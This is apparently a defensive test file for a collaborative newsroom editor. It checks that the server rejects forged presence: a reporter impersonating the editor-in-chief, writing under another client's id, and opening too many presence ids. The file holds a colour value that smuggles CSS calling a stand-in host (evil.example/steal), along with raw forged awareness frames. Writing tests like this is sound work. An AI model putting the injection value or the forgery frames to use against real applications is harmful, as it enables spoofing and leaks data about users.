// Forged presence: a reporter's client announces itself as the editor-in-chief, with the
// editor's role and id and a colour that smuggles CSS, and tries to write under another
// person's awareness id. Before, every other client showed it as sent. Now the server fills in
// the user from the signed-in account (a log line names who claimed what), keeps a colour only
// when it is `#rrggbb`, ignores writes to ids the connection does not own, and closes a
// connection that takes more ids than allowed (1008); the renderer checks the same again.
import { afterEach, describe, expect, it } from 'vitest';
import type WebSocket from 'ws';
import { userColor } from '../../model/user-colors.ts';
import { peersFrom, type PresenceState } from '../../renderer/src/lib/presence.ts';
import { connectClient, sleep, waitFor, type TestClient } from '../support/clients.ts';
import { awarenessMessage, mustOpen, signIn, whenClosed } from './support/attackers.ts';
import { HonestTraffic } from './support/honest-traffic.ts';
import { startHostileServer, type HostileServer } from './support/hostile-server.ts';
import { reportAttack } from './support/report.ts';

const MiB = 1024 * 1024;

let server: HostileServer | null = null;
let traffic: HonestTraffic | null = null;
const clients: TestClient[] = [];
const sockets: WebSocket[] = [];
afterEach(async () => {
  for (const ws of sockets.splice(0)) ws.terminate();
  for (const client of clients.splice(0)) client.destroy();
  traffic?.destroy();
  traffic = null;
  await server?.dispose();
  server = null;
});

const CSS_INJECTION = 'red; background-image: url(https://evil.example/steal?who=you)';

describe('forged presence', () => {
  it('a reporter claiming the editor’s name, role and id with a CSS-injecting colour: everyone sees the real account and a safe colour', async () => {
    server = await startHostileServer();
    const ana = await signIn(server, 'ana');
    const ben = await signIn(server, 'ben');
    const ed = await signIn(server, 'ed');
    const mallory = await signIn(server, 'mallory');
    const id = await server.createArticle(ana.token);
    traffic = await HonestTraffic.start(server.wsUrl, id, ana.token, ben.token);
    const editor = connectClient(server.wsUrl, id, ed.token);
    clients.push(editor);
    await editor.synced;
    editor.provider.awareness.setLocalState({ user: { id: ed.id, name: ed.displayName, color: userColor(ed.id) }, field: 'body' });
    const rssBefore = server.rss();
    const peak = server.sampleRss();

    // The forger, through the stock client.
    const forger = connectClient(server.wsUrl, id, mallory.token);
    clients.push(forger);
    await forger.synced;
    forger.provider.awareness.setLocalState({ user: { id: ed.id, name: `${ed.displayName} (Editor-in-chief)`, role: 'editor', color: CSS_INJECTION }, field: 'headline' });
    // A second window of the same reporter with a colour of its own choosing: kept.
    const second = connectClient(server.wsUrl, id, mallory.token);
    clients.push(second);
    await second.synced;
    second.provider.awareness.setLocalState({ user: { name: 'Mallory', color: '#00FF7F' } });
    // Raw frames: a state under the editor's awareness id (ignored), then more ids than allowed (closed).
    const raw = await mustOpen(server, id, mallory.token);
    sockets.push(raw);
    const rawClosed = whenClosed(raw);
    raw.send(awarenessMessage([[editor.doc.clientID, 1000, { user: { name: 'Ed, really' }, field: 'standfirst' }]]));
    raw.send(awarenessMessage([1, 2, 3, 4, 5].map((k): [number, number, unknown] => [9_000_000 + k, 1, { field: 'body' }])));
    const close = await rawClosed;

    const observers = { reader: traffic.reader, writer: traffic.writer, editor };
    const stateOf = (observer: TestClient, client: TestClient) => observer.provider.awareness.getStates().get(client.doc.clientID) as PresenceState | undefined;
    await waitFor(
      () => Object.values(observers).every((o) => stateOf(o, forger)?.field === 'headline' && stateOf(o, second)?.user !== undefined),
      'every other client to see both of the reporter’s windows',
    );
    await sleep(500);
    const delivery = await traffic.stop();
    const rssPeak = peak();
    reportAttack({ attack: 'forged presence', rssBefore, rssPeak, rssAfter: server.rss(), delivery, note: `raw socket closed ${close.code} “${close.reason}”` });

    for (const [name, observer] of Object.entries(observers)) {
      expect(stateOf(observer, forger)?.user, name).toEqual({ id: mallory.id, name: mallory.displayName, role: 'reporter', color: userColor(mallory.id) });
      expect(stateOf(observer, second)?.user, name).toEqual({ id: mallory.id, name: mallory.displayName, role: 'reporter', color: '#00ff7f' });
      // What the presence list would show.
      const peers = peersFrom(observer.provider.awareness.getStates(), observer.doc.clientID);
      const shown = peers.find((p) => p.clientId === forger.doc.clientID)!;
      expect(shown).toMatchObject({ userId: mallory.id, name: mallory.displayName, color: userColor(mallory.id) });
      for (const peer of peers) expect(peer.color).toMatch(/^#[0-9a-f]{6}$/);
      // Ed is still Ed, typing in the body, and nobody shows as Ed but Ed.
      if (observer !== editor) expect(stateOf(observer, editor)).toMatchObject({ user: { id: ed.id, role: 'editor' }, field: 'body' });
      expect(peers.filter((p) => p.userId === ed.id).map((p) => p.clientId)).toEqual([editor.doc.clientID]);
    }
    expect(close).toEqual({ code: 1008, reason: 'more than 4 presence ids on one connection' });
    expect(server.logLines(`presence of mallory on story ${id} claimed`).length).toBeGreaterThan(0);
    expect(server.logLines(`presence of mallory on story ${id} claimed`)[0]).toContain('Editor-in-chief');
    expect(server.logLines('closing connection of mallory to story').some((l) => l.includes('more than 4 presence ids'))).toBe(true);
    expect(rssPeak - rssBefore).toBeLessThan(200 * MiB);
    expect(delivery.delivered).toBe(delivery.keystrokes);
    expect(delivery.p99).toBeLessThan(1000);
    expect(await traffic.storedKeystrokes(server.wsUrl, id, ben.token)).toBe(delivery.keystrokes);
  });
});
